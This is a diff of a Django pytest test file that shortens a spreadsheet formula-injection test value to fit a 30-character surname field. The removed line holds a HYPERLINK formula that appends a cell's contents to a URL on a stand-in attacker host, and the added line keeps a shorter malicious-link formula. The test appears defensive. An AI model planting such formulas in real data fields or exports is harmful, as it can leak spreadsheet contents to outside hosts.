@@ -19,7 +19,7 @@ from tests.permissions.world import build_world
 from tests.workflow.conftest import make_inquiry
 
 pytestmark = pytest.mark.django_db
-LINK = '=HYPERLINK("http://evil.example/?"&A1,"開く")'
+LINK = '=HYPERLINK("http://ev.il")'  # fits a surname (30 characters)
 
 
 @pytest.fixture
